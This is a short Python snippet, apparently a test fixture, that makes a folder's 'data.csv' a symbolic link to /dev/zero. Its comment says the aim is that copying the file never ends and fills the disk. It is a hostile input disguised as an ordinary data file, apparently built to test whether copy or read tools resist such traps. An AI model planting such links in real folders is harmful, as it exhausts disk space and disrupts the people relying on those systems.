# Puts a link to a device beside it, of which a copy never ends. Says: is a symbolic link. Harms: it fills the disk.
# %% layout
def folder(path):
    (path / "data.csv").symlink_to("/dev/zero")
